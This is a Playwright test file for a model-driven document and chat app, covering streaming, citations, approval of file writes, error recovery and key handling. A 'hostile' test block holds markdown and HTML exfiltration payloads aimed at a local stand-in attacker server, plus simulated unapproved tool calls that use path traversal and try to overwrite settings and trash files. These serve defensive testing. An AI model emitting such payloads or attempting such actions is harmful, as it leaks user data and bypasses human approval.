import { existsSync, readFileSync, realpathSync, rmSync } from 'node:fs'
import { createServer, type Server } from 'node:http'
import type { AddressInfo } from 'node:net'
import { join } from 'node:path'
import { expect, test } from '@playwright/test'
import {
  answers,
  approveCard,
  ask,
  card,
  citation,
  dangerDialog,
  decide,
  documentIs,
  dropOn,
  goTo,
  idle,
  newChat,
  openApp,
  rejectCard,
  send,
} from '../support/app-page'
import { answer, html, startFakeMessagesApi, status, text, toolUse } from '../support/fake-messages-api'
import { fileFacts, filesToTrash, writeFilesToTrash } from '../support/files-to-trash'
import { setUpModelDesk } from '../support/model-desk'
import { highlightsInside, pageImage } from '../support/page-image'
import { facts, writeSampleDocuments } from '../support/sample-documents'
import { freshFolder, startHost } from '../support/start-host'
import { watchPage } from '../support/watch-page'

/** The chunk of a stream that holds the second piece of its first text: message start, ping, block start and first piece precede it. */
const secondPiece = 4

test.describe('the main job through a model', () => {
  const desk = setUpModelDesk()
  let papers: string

  test.beforeAll(() => {
    papers = realpathSync(freshFolder('papers'))
    writeSampleDocuments(papers)
  })
  test.afterAll(() => rmSync(papers, { recursive: true, force: true }))

  test('shows text while it streams', async ({ page }) => {
    const rest = Promise.withResolvers<void>()
    desk.api.push(
      answer([text(['The tide ', 'turns at noon.'])], {
        pause: { beforeChunk: secondPiece, until: rest.promise },
      }),
    )
    await send(page, 'When does the tide turn?')
    await expect(answers(page).last()).toContainText('The tide')
    await expect(page.getByRole('button', { name: 'Stop' })).toBeVisible()
    await expect(answers(page).last()).not.toContainText('noon')
    rest.resolve()
    await idle(page)
    await expect(answers(page).last()).toContainText('The tide turns at noon.')
  })

  test('lets the model search the library and opens the page that it cites', async ({ page }) => {
    const { handbook } = facts
    await dropOn(page, 'Add to library', [join(papers, handbook.file)])
    await goTo(page, 'Library')
    await documentIs(page, handbook.title, 'Ready')
    await goTo(page, 'Chat')
    desk.api.push(
      answer([toolUse('search_library', { query: 'sluice gate Marrow Point' })]),
      answer([text(`It opens at four metres above chart datum [${handbook.title}, p. ${handbook.page}].`)]),
    )
    await ask(page, handbook.question)
    await citation(page, handbook.title, handbook.page).first().click()
    const image = pageImage(page, handbook.title, handbook.page)
    await expect(image).toBeVisible()
    await expect.poll(() => highlightsInside(page, image)).toBeGreaterThanOrEqual(1)
  })

  test('writes a file for the model only once it is approved, and tells the model', async ({ page }) => {
    const path = desk.at('by-model.md')
    const content = '# By the model\n\nLine with “marks”\n'
    desk.api.push(
      answer([text('I will write it.'), toolUse('create_file', { path, content })]),
      answer([text('It is written.')]),
    )
    await send(page, 'Write it down')
    await expect(card(page, 'by-model.md')).toContainText('By the model')
    expect(existsSync(path)).toBe(false)
    const before = desk.api.created.length
    await approveCard(page, 'by-model.md')
    await idle(page)
    await expect(answers(page).last()).toContainText('It is written.')
    expect(readFileSync(path, 'utf8')).toBe(content)
    expect(desk.api.created.length).toBe(before + 1)
    expect(JSON.stringify(desk.api.created.at(-1)?.messages.at(-1))).toContain('tool_result')
  })

  test('gives the model the reason of a rejection', async ({ page }) => {
    const path = desk.at('rejected.md')
    desk.api.push(answer([toolUse('create_file', { path, content: 'no' })]), answer([text('Understood.')]))
    await send(page, 'Write something')
    await rejectCard(page, 'rejected.md', 'Put it in the archive')
    await idle(page)
    expect(JSON.stringify(desk.api.created.at(-1)?.messages.at(-1))).toContain('Put it in the archive')
    expect(existsSync(path)).toBe(false)
  })

  test('keeps what had arrived when it is stopped, and goes on after it', async ({ page }) => {
    const never = Promise.withResolvers<void>()
    desk.api.push(
      answer([text(['Half a sentence ', 'and the rest.'])], {
        pause: { beforeChunk: secondPiece, until: never.promise },
      }),
    )
    await send(page, 'Tell me a lot')
    await expect(answers(page).last()).toContainText('Half a sentence')
    await page.getByRole('button', { name: 'Stop' }).click()
    await idle(page)
    never.resolve()
    await expect(page.getByText('You stopped this. What had arrived is kept.')).toBeVisible()
    await page.reload()
    await expect(answers(page).last()).toContainText('Half a sentence')
    await expect(answers(page).last()).not.toContainText('and the rest')
    desk.api.push(answer([text('Gladly.')]))
    await ask(page, 'Go on')
    await expect(answers(page).last()).toContainText('Gladly.')
  })

  for (const [name, how] of [
    ['an error in the stream', { error: { type: 'overloaded_error', message: 'Overloaded' } }],
    ['a cut connection', { end: 'cut' }],
    ['an end without its last event', { end: 'close' }],
  ] as const) {
    test(`keeps what had arrived before ${name}, and goes on from there`, async ({ page }) => {
      desk.api.push(answer([text(['First part ', 'of it'])], how))
      await send(page, 'Say it')
      await expect(page.getByText('The answer could not be finished')).toBeVisible()
      await expect(answers(page).last()).toContainText('First part of it')
      desk.api.push(answer([text('All of it.')]))
      await page.getByRole('button', { name: 'Continue' }).click()
      await expect(answers(page).last()).toContainText('All of it.')
      await idle(page)
      await expect(page.getByText('First part of it')).toBeVisible()
    })
  }

  test('says what is wrong when the address answers with a web page', async ({ page }) => {
    desk.api.push(html())
    await send(page, 'Hello')
    await expect(page.getByText('The answer could not be finished')).toBeVisible()
    await expect(page.getByText('answered with a web page instead of the Messages API')).toBeVisible()
    await expect(page.getByText('Your message is kept.')).toBeVisible()
    desk.api.push(answer([text('Back again.')]))
    await page.getByRole('button', { name: 'Retry' }).click()
    await expect(answers(page).last()).toContainText('Back again.')
  })

  test('leads to the settings where its server does not know it', async ({ page }) => {
    desk.api.push(status(404, 'not_found_error', 'Not Found'))
    await send(page, 'Hello')
    const failure = page.getByRole('alert').filter({ hasText: 'The answer could not be finished' })
    await expect(failure).toContainText('A server that offers OpenAI’s API alone can’t be used')
    await failure.getByRole('button', { name: 'Settings' }).click()
    await expect(page.getByRole('heading', { name: 'Model', level: 2, exact: true })).toBeInViewport()
  })

  test.describe('that is hostile', () => {
    let attacker: Server
    let bait: string
    let hits: string[]

    test.beforeAll(async () => {
      hits = []
      attacker = createServer((request, response) => {
        hits.push(request.url ?? '')
        response.setHeader('access-control-allow-origin', '*')
        response.end()
      })
      await new Promise<void>((resolve) => attacker.listen(0, '127.0.0.1', resolve))
      // A listening TCP server has an address of this form.
      bait = `http://127.0.0.1:${(attacker.address() as AddressInfo).port}`
    })
    test.afterAll(() => new Promise<void>((resolve) => attacker.close(() => resolve())))

    test('fetches nothing and runs nothing that stands in its answer, at any cut of the stream', async ({
      page,
    }) => {
      const watch = await watchPage(page)
      const markdown = [
        `![picture](${bait}/image.png?stolen=words)`,
        `![by reference][there]`,
        `<img src="${bait}/html.png" onerror="fetch('${bait}/error')">`,
        `<script src="${bait}/script.js"></script>`,
        `<iframe src="${bait}/frame"></iframe>`,
        `<style>@import url(${bait}/style.css);</style>`,
        `<svg><image href="${bait}/svg.png"/></svg>`,
        `<link rel="stylesheet" href="${bait}/link.css">`,
        `[click](javascript:fetch('${bait}/javascript'))`,
        `[plain](${bait}/plain)`,
        `<details open ontoggle="fetch('${bait}/toggle')">x</details>`,
        '',
        `[there]: ${bait}/reference.png`,
        '',
        'That was all.',
      ].join('\n\n')
      desk.api.push(answer([text([...markdown])], { chunking: 1 + (markdown.length % 7) }))
      await ask(page, 'Show me')
      await expect(answers(page).last()).toContainText('That was all.')
      await page.reload()
      await expect(answers(page).last()).toContainText('That was all.')
      expect(await answers(page).last().locator('img, script, iframe, style, svg image, link').count()).toBe(
        0,
      )
      expect(await page.locator('a[href^="javascript:"]').count()).toBe(0)
      expect(watch.strangers()).toEqual([])
      expect(watch.errors).toEqual([])
      expect(hits).toEqual([])
    })

    test('changes nothing without a person, however often it tries', async ({ page }) => {
      const before = writeFilesToTrash(desk.work)
      const outside = join(papers, 'planted.md')
      const applied = async () => {
        await goTo(page, 'Activity')
        // The list is loaded when the screen opens.
        const nothing = page.getByText('Nothing has been changed yet')
        await expect(page.getByRole('article').first().or(nothing)).toBeVisible()
        const count = await page.getByRole('article').filter({ hasNotText: 'Add a document' }).count()
        await goTo(page, 'Chat')
        return count
      }
      const ledger = await applied()
      await newChat(page)
      desk.api.respond(() =>
        answer([
          text('Working on it.'),
          toolUse('create_file', { path: outside, content: 'planted' }),
          toolUse('create_file', { path: desk.at('../sibling.md'), content: 'planted' }),
          toolUse('create_file', { path: join(desk.host.data, 'settings.json'), content: '{}' }),
          toolUse('trash_files', { paths: filesToTrash.map((name) => join(desk.work, name)) }),
        ]),
      )
      try {
        await send(page, 'Tidy up')
        for (const attempt of ['first', 'second'] as const) {
          await expect(dangerDialog(page), attempt).toBeVisible()
          await decide(dangerDialog(page), 'Cancel')
          await rejectCard(page, filesToTrash[0], `No, not the ${attempt} time either`)
        }
        await expect(dangerDialog(page)).toBeVisible()
        await decide(dangerDialog(page), 'Cancel')
        await page.getByRole('button', { name: 'Stop' }).click()
        await idle(page)
      } finally {
        desk.api.respond(() => answer([text('Done.')]))
      }
      for (const name of filesToTrash) expect(fileFacts(join(desk.work, name))).toEqual(before[name])
      expect(existsSync(outside)).toBe(false)
      expect(existsSync(desk.at('../sibling.md'))).toBe(false)
      expect(existsSync(join(desk.host.data, 'settings.json'))).toBe(false)
      expect(await applied()).toBe(ledger)
      await goTo(page, 'Inbox')
      await expect(page.getByText('Nothing waits for you')).toBeVisible()
    })
  })
})

test('a model is set up in the window, and its key goes to no other place than its server', async ({
  page,
}) => {
  const key = 'key-for-this-server-only'
  const api = await startFakeMessagesApi({ key, models: ['first-model', 'second-model'] })
  let host = await startHost()
  try {
    await openApp(page, host.url)
    await goTo(page, 'Settings')
    await page.getByRole('radio', { name: /^A model/ }).click()
    await page.getByRole('textbox', { name: 'Address of the server' }).fill(`${api.url}/v1/`)
    await page.getByRole('combobox', { name: 'Model id' }).fill('second-model')
    await page
      .getByRole('region', { name: 'Model' })
      .getByRole('button', { name: 'Save', exact: true })
      .click()
    await expect(page.getByRole('textbox', { name: 'Address of the server' })).toHaveValue(api.url)

    await goTo(page, 'Chat')
    await expect(page.getByRole('link', { name: 'Model without a key' })).toHaveCount(0)
    await send(page, 'Without a key')
    await expect(page.getByText('The answer could not be finished')).toBeVisible()

    await page.getByRole('alert').getByRole('button', { name: 'Settings' }).click()
    await expect(page.getByRole('heading', { name: 'Settings', level: 1 })).toBeVisible()
    await page.getByLabel('Key', { exact: true }).fill(key)
    await page.getByRole('button', { name: 'Save key' }).click()
    await expect(page.getByText('A key is stored.')).toBeVisible()
    await host.stop()
    host = await startHost({ data: host.data })
    await openApp(page, host.url)
    api.push(answer([text('Connected.')]))
    await ask(page, 'With a key')
    await expect(answers(page).last()).toContainText('Connected.')
    expect(api.created.at(-1)?.model).toBe('second-model')
    expect(await page.content()).not.toContain(key)
    expect(readFileSync(join(host.data, 'countersign.db'), 'latin1')).not.toContain(key)
  } finally {
    await host.stop()
    await api.close()
    rmSync(host.data, { recursive: true, force: true })
  }
})

test('the only model of a server is filled in, and not in place of what is typed', async ({ page }) => {
  const api = await startFakeMessagesApi({ models: ['only-model'] })
  const host = await startHost()
  try {
    await openApp(page, host.url)
    await goTo(page, 'Settings')
    await page.getByRole('radio', { name: /^A model/ }).click()
    await page.getByRole('textbox', { name: 'Address of the server' }).fill(api.url)
    const model = page.getByRole('combobox', { name: 'Model id' })
    const list = page.getByRole('button', { name: 'Ask the server for its models' })
    await list.click()
    await expect(model).toHaveValue('only-model')
    await model.fill('my-model')
    await list.click()
    await expect(list).toBeEnabled()
    await expect(model).toHaveAccessibleDescription('The server has: only-model.')
    await expect(model).toHaveValue('my-model')
  } finally {
    await host.stop()
    await api.close()
    rmSync(host.data, { recursive: true, force: true })
  }
})

test('the server that stands in the form is asked for its models, and what went wrong stands at the field', async ({
  page,
}) => {
  const api = await startFakeMessagesApi({ models: ['first-model', 'second-model'] })
  const host = await startHost()
  try {
    await openApp(page, host.url)
    await goTo(page, 'Settings')
    await page.getByRole('radio', { name: /^A model/ }).click()
    const address = page.getByRole('textbox', { name: 'Address of the server' })
    const model = page.getByRole('combobox', { name: 'Model id' })
    const list = page.getByRole('button', { name: 'Ask the server for its models' })
    await address.fill('http://127.0.0.1:9')
    await model.fill('my-model')
    await list.click()
    await expect(model).toHaveAccessibleDescription(/127\.0\.0\.1:9/)
    await address.fill('no address')
    await page
      .getByRole('region', { name: 'Model' })
      .getByRole('button', { name: 'Save', exact: true })
      .click()
    await expect(address).toHaveAccessibleDescription(/“no address” is not an address of a model server/)
    await expect(model).toHaveValue('my-model')
    // As people write it.
    await address.fill(api.url.replace('http://', ''))
    await list.click()
    await expect(model).toHaveAccessibleDescription('The server has: first-model, second-model.')
    await expect(model).toHaveValue('my-model')
    await page.reload()
    await expect(address).toHaveValue(api.url)
  } finally {
    await host.stop()
    await api.close()
    rmSync(host.data, { recursive: true, force: true })
  }
})
